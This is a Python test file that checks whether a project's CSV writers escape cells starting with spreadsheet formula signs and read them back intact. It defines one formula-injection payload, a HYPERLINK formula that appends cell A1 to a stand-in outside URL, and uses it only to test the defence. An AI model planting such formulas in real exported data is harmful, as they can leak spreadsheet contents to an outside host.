"""No cell of a CSV is a formula for a spreadsheet program, and our readers find the text again."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from simsid.archive.films import archive_films
from simsid.benchmark.record_files import write_csv
from simsid.cells import as_cell, as_path, text_of
from simsid.marks import NORMAL, Mark, Marks
from simsid.review import main as review
from simsid.scoring.table import COLUMNS, TableWriter, earlier_rows, file_key, read_table
from synth.factors import COLUMNS as FACTORS
from synth.manifest import _as_cell as synth_cell
from synth.manifest import write_tables
from tests.simsid.scoring.conftest import run

FORMULA = '=HYPERLINK("http://a.example/"&A1)'
SIGNS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"


def cells_of(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


@given(st.text(alphabet=SIGNS + "'0a.", max_size=6) | st.text())
def test_any_text_comes_back_and_begins_no_formula(text: str) -> None:
    cell = as_cell(text)
    assert cell == synth_cell(text)  # synth stands without simsid, and has the same rule
    assert text_of(cell) == text
    assert cell[:1] not in tuple(SIGNS) or float(text) is not None
    name = text.replace("/", "")
    assert as_path(name)[:1] not in tuple(SIGNS)


@pytest.mark.parametrize("value", [-1.5, 3, None, "-1.5", "-inf", "+4", "", "a=b", "'a'"])
def test_numbers_and_other_texts_stay_as_they_are(value: object) -> None:
    assert as_cell(value) == value == synth_cell(value)


def test_a_generated_sets_table_tells_a_formula_from_one_that_has_an_apostrophe(
    tmp_path: Path,
) -> None:
    told = ["=a", "'=a", "-5", "a"]
    same = {"split": "train", "kind": "good", "label": 0}
    write_tables(
        tmp_path,
        [{"id": text, **same, "factors": dict.fromkeys(FACTORS, text)} for text in told],
    )
    rows = cells_of(tmp_path / "manifest.csv")
    assert [row[0] for row in rows] == ["id", "'=a", "''=a", "-5", "a"]
    assert [row[-1] for row in rows[1:]] == ["'=a", "''=a", "-5", "a"]
    assert [text_of(row[0]) for row in rows[1:]] == told


@pytest.mark.parametrize("name", ["=a.png", "-1.png", "@a.png", "+a.png", "\ta.png", "'=a.png"])
def test_a_film_keeps_its_path_in_tables_marks_and_lists(name: str, tmp_path: Path) -> None:
    told = file_key(Path(name))
    assert told == f"./{name}" and Path(told) == Path(name)
    row = dict.fromkeys(COLUMNS, "") | {"file": told, "message": FORMULA, "score": -0.5}
    with TableWriter(tmp_path / "s.csv") as writer:
        writer.append([row])
    cells = cells_of(tmp_path / "s.csv")[1]
    assert f"'{FORMULA}" in cells and "-0.5" in cells and cells[0] == told
    assert read_table(tmp_path / "s.csv")[0] == [row | {"score": "-0.5"}]
    marks = Marks(tmp_path / "m.csv")
    marks.put(told, Mark(NORMAL, "doubtful"))
    assert marks.read().keys() == {told} and marks.normals() == [Path(name)]
    assert [each.place for each in archive_films([], tmp_path / "s.csv")] == [str(tmp_path / name)]


def test_names_of_earlier_tables_are_those_of_today(tmp_path: Path) -> None:
    line = ",".join(["=a.png", *[""] * (len(COLUMNS) - 1)])
    (tmp_path / "s.csv").write_text(f"{','.join(COLUMNS)}\n{line}\n")
    assert read_table(tmp_path / "s.csv")[0][0]["file"] == "./=a.png"
    assert [row["file"] for row in earlier_rows(tmp_path / "s.csv")] == ["./=a.png"]
    (tmp_path / "m.csv").write_text("file,mark,order\n=a.png,normal,doubtful\n")
    assert Marks(tmp_path / "m.csv").normals() == [Path("=a.png")]


def test_an_id_of_a_list_is_the_same_in_table_and_list(tmp_path: Path) -> None:
    for cell in ("=1", "'=1"):
        (tmp_path / "l.csv").write_text(f"file,id\na.png,{cell}\n")
        (film,) = archive_films([], tmp_path / "l.csv")
        assert film.id == "=1" and as_cell(film.id) == "'=1"


def test_films_of_such_names_are_scored_reviewed_and_gone_on_with(
    model, films, tmp_path, monkeypatch, capsys
) -> None:
    names = ["+1.png", "-2.png", "=3.png", "@4.png"]
    for old, new in zip(sorted(films.iterdir()), names, strict=False):
        old.rename(films / new)
    monkeypatch.chdir(films)
    given = ["./=3.png", "@4.png", "+1.png"]
    assert run("--model", model, "--out", "s.csv", *given) == 0
    assert [row[0] for row in cells_of(films / "s.csv")[1:]] == ["./=3.png", "./@4.png", "./+1.png"]
    whole = (films / "s.csv").read_bytes()
    (films / "s.csv").write_bytes(whole[: whole.rindex(b"./+1")])
    assert run("--model", model, "--out", "s.csv", "--resume", *given) == 0
    assert (films / "s.csv").read_bytes() == whole
    assert run("--model", model, "--out", "again.csv", "--files", "s.csv") == 0
    assert (films / "again.csv").read_bytes() == whole
    capsys.readouterr()
    assert review(["s.csv", "--face", "summary"]) == 0
    assert "0 of 3 films marked" in capsys.readouterr().out


def test_a_benchmark_of_models_and_data_of_such_names(tmp_path: Path) -> None:
    write_csv(tmp_path / "b.csv", [{"model": FORMULA, "move": -0.25, "place": None}])
    assert cells_of(tmp_path / "b.csv")[1] == [f"'{FORMULA}", "-0.25", ""]
